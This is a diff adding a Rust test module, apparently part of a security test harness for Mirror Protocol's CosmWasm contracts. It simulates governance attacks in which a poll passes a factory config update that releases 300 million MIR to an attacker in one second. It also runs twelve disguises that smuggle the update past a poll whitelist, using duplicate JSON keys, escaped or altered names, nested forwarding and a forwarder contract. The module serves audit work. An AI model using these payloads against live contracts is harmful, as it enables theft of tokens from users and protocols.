@@ -1,0 +1,270 @@
+//! The whole release of MIR in a second, by a default poll in every disguise.
+
+use anyhow::Context;
+use cosmwasm_std::{
+    from_json, to_json_vec, Addr, Binary, Deps, DepsMut, Empty, Env, MessageInfo, Response,
+    StdResult, Uint128, WasmMsg,
+};
+use cw_multi_test::{Contract, ContractWrapper};
+use mirror_protocol::factory::{self, ConfigUpdate, Factory, FixedDistribution};
+use mirror_testing::{standard_profile, AddressBook, Addresses, TestChain, World};
+use serde::{Deserialize, Serialize};
+use serde_json::Value;
+
+use super::super::bundle::Bundle;
+use super::super::polls::{self, Motion, FIFTH, THIRD};
+use super::super::scenes::{DAY, MILLION};
+use super::super::stage::Stage;
+use super::super::told::{Attempt, Findings};
+use super::super::Attack;
+
+pub(super) const SECOND: Attack = Attack {
+    name: "default poll: the release",
+    story: "factory.update_config was a message like any other: a fifth of the stake passed a \
+            schedule of one second, which minted 300 million MIR.",
+    run: second,
+};
+
+pub(super) const DISGUISED: Attack = Attack {
+    name: "default poll in disguise",
+    story: "What a default poll may do is a list of names; the same schedule under a name that \
+            nearly matches, behind one that does, or sent by way of another contract.",
+    run: disguised,
+};
+
+/// What is to be released in one second.
+const WANTED: u128 = 300 * MILLION;
+/// What the first year of the founding schedule releases, and thirty of its days.
+const YEAR: u128 = 1_281 * MILLION / 10;
+const MONTH: u128 = YEAR / 365 * 30;
+/// When it begins, counted from the poll's creation.
+const LATER: u64 = 20 * DAY;
+
+/// All of it to the attacker, in so many seconds.
+fn schedule(stage: &Stage, wanted: u128, seconds: u64) -> anyhow::Result<factory::ExecuteMsg> {
+    let factory = Factory(stage.world.at.factory.clone());
+    let genesis = factory.config(&stage.world.chain.app.wrap())?.genesis_time;
+    let start = stage.world.chain.now() - genesis + LATER;
+    let fixed = FixedDistribution {
+        recipient: stage.attacker.to_string(),
+        schedule: vec![(start, start + seconds, Uint128::new(wanted))],
+    };
+    Ok(factory::ExecuteMsg::UpdateConfig(ConfigUpdate {
+        distribution_schedule: Some(vec![]),
+        mirror_distribution_schedule: Some(vec![]),
+        fixed_distributions: Some(vec![fixed]),
+        ..Default::default()
+    }))
+}
+
+/// Its time has come and gone, and what is due is shared out.
+fn collects(stage: &mut Stage) -> anyhow::Result<()> {
+    let factory = stage.world.at.factory.clone();
+    stage.world.chain.pass(LATER + 30 * DAY);
+    let distribute = factory::ExecuteMsg::Distribute {};
+    stage.does(Bundle::new().tells(&factory, &distribute))?;
+    polls::leaves(stage)
+}
+
+fn second() -> anyhow::Result<Findings> {
+    let mut stage = polls::governed(standard_profile(&TestChain::new()), FIFTH)?;
+    let update = schedule(&stage, WANTED, 1)?;
+    let motion = Motion::call(&stage.world.at.factory, &update)?;
+    polls::passes(&mut stage, "T-87", &motion)?;
+    collects(&mut stage)?;
+    let plain = stage.ends("had 300 million MIR released to the attacker in one second")?;
+    let third = |wanted: u128, seconds: u64, tried: &str| -> anyhow::Result<Attempt> {
+        let mut stage = polls::governed(standard_profile(&TestChain::new()), THIRD)?;
+        let update = schedule(&stage, wanted, seconds)?;
+        let motion = Motion::execute(&stage.world.at.factory, &update)?;
+        polls::passes(&mut stage, "T-74", &motion)?;
+        collects(&mut stage)?;
+        stage.ends(tried)
+    };
+    let days = 30 * DAY;
+    Ok(Findings {
+        attempts: vec![
+            plain,
+            third(
+                WANTED,
+                1,
+                "with a third of the stake tried the same as an execute poll",
+            )?,
+            third(
+                MONTH + MONTH / 100,
+                days,
+                "with a third tried a hundredth more than the first year's pace, for a month",
+            )?,
+        ],
+        exposures: vec![third(MONTH, days, "")?.exposes(
+            "a third of the stake, while nobody else votes: for a month all that the first year \
+             releases is the attacker's",
+        )],
+    })
+}
+
+/// What is sent to whom, made of the fields of factory.update_config.
+type Disguise = fn(&Addresses, &str) -> (Addr, String);
+
+const DISGUISES: [(Disguise, &str); 12] = [
+    (
+        |at, fields| {
+            let text = format!(r#"{{"distribute":{{}},"update_config":{fields}}}"#);
+            (at.factory.clone(), text)
+        },
+        "as the second key of a message that distributes",
+    ),
+    (
+        |at, fields| {
+            let text = format!(r#"{{"update_config":{fields},"distribute":{{}}}}"#);
+            (at.factory.clone(), text)
+        },
+        "as the first key of it",
+    ),
+    (
+        |at, fields| {
+            (
+                at.factory.clone(),
+                format!(r#"{{"upd\u0061te_config":{fields}}}"#),
+            )
+        },
+        "with a letter of its name as an escape",
+    ),
+    (
+        |at, fields| {
+            let text = format!(r#"{{"distribute":{{}}}}{{"update_config":{fields}}}"#);
+            (at.factory.clone(), text)
+        },
+        "as a second message behind one that distributes",
+    ),
+    (
+        |at, fields| passed(at, &at.factory, &update(fields)),
+        "passed on by the factory to itself",
+    ),
+    (
+        |at, fields| {
+            let (_, inner) = passed(at, &at.factory, &update(fields));
+            passed(at, &at.factory, &inner)
+        },
+        "passed on by the factory to pass it on",
+    ),
+    (
+        |at, fields| {
+            let text = format!(r#"{{"cancel_delisting":{{}},"update_config":{fields}}}"#);
+            passed(at, &at.factory, &text)
+        },
+        "passed on by the factory as the second key",
+    ),
+    (
+        |at, fields| {
+            let [listed, wanted] = [r#"{"distribute":{}}"#, &update(fields)].map(base64);
+            let (factory, mint) = (&at.factory, &at.mint);
+            let text = format!(
+                r#"{{"pass_command":{{"contract_addr":"{mint}","msg":"{listed}","contract_addr":"{factory}","msg":"{wanted}"}}}}"#
+            );
+            (at.factory.clone(), text)
+        },
+        "in fields that a message to be passed on has twice",
+    ),
+    (
+        |_, _| {
+            let desk = AddressBook::default().addr_make(DESK);
+            (desk, r#"{"distribute":{}}"#.to_string())
+        },
+        "by way of an own contract, whose message for it has a listed name",
+    ),
+    (
+        |at, fields| (at.factory.clone(), format!(r#"{{"distribute":{fields}}}"#)),
+        "in the fields of a message that distributes",
+    ),
+    (
+        |at, fields| (at.factory.clone(), format!(r#"{{"Distribute":{fields}}}"#)),
+        "under a listed name with a capital letter",
+    ),
+    (
+        |at, fields| {
+            (
+                at.factory.clone(),
+                format!(r#"{{"update_weight ":{fields}}}"#),
+            )
+        },
+        "under a listed name with a space behind it",
+    ),
+];
+
+fn update(fields: &str) -> String {
+    format!(r#"{{"update_config":{fields}}}"#)
+}
+
+fn base64(text: &str) -> String {
+    Binary::from(text.as_bytes()).to_base64()
+}
+
+fn passed(at: &Addresses, contract: &Addr, text: &str) -> (Addr, String) {
+    let msg = base64(text);
+    let text = format!(r#"{{"pass_command":{{"contract_addr":"{contract}","msg":"{msg}"}}}}"#);
+    (at.factory.clone(), text)
+}
+
+fn disguised() -> anyhow::Result<Findings> {
+    let attempts = DISGUISES.map(|(disguise, how)| attempt(disguise, how));
+    Ok(Findings {
+        attempts: attempts.into_iter().collect::<anyhow::Result<_>>()?,
+        exposures: vec![],
+    })
+}
+
+fn attempt(disguise: Disguise, how: &str) -> anyhow::Result<Attempt> {
+    let mut stage = polls::governed(standard_profile(&TestChain::new()), FIFTH)?;
+    let update = serde_json::to_value(schedule(&stage, WANTED, 1)?)?;
+    let fields = update.get("update_config").context("its fields")?;
+    let (contract, text) = disguise(&stage.world.at, &fields.to_string());
+    let contract = match contract == AddressBook::default().addr_make(DESK) {
+        true => forwarder(&mut stage.world, &fields.to_string()),
+        false => contract,
+    };
+    let motion = Motion::raw(&contract, Binary::from(text.into_bytes()));
+    polls::passes(&mut stage, "T-87", &motion)?;
+    collects(&mut stage)?;
+    stage.ends(format!("tried a schedule of one second {how}"))
+}
+
+/// Stands for the contract that forwards, which has no address before it is there.
+const DESK: &str = "desk";
+
+fn forwarder(world: &mut World, fields: &str) -> Addr {
+    let attacker = world.chain.account("attacker");
+    let order = Order {
+        contract: world.at.factory.to_string(),
+        msg: Binary::from(update(fields).into_bytes()),
+    };
+    let code: Box<dyn Contract<Empty>> = Box::new(ContractWrapper::new(forward, take, nothing));
+    world.chain.create(code, &attacker, &order)
+}
+
+const ORDER: &[u8] = b"order";
+
+/// What the forwarder sends when it is told to distribute.
+#[derive(Serialize, Deserialize, Debug)]
+struct Order {
+    contract: String,
+    msg: Binary,
+}
+
+fn take(deps: DepsMut, _: Env, _: MessageInfo, order: Order) -> StdResult<Response> {
+    deps.storage.set(ORDER, &to_json_vec(&order)?);
+    Ok(Response::new())
+}
+
+fn forward(deps: DepsMut, _: Env, _: MessageInfo, _: Value) -> StdResult<Response> {
+    let Order { contract, msg } = from_json(deps.storage.get(ORDER).unwrap_or_default())?;
+    Ok(Response::new().add_message(WasmMsg::Execute {
+        contract_addr: contract,
+        msg,
+        funds: vec![],
+    }))
+}
+
+fn nothing(_: Deps, _: Env, _: Empty) -> StdResult<Binary> {
+    Ok(Binary::default())
+}
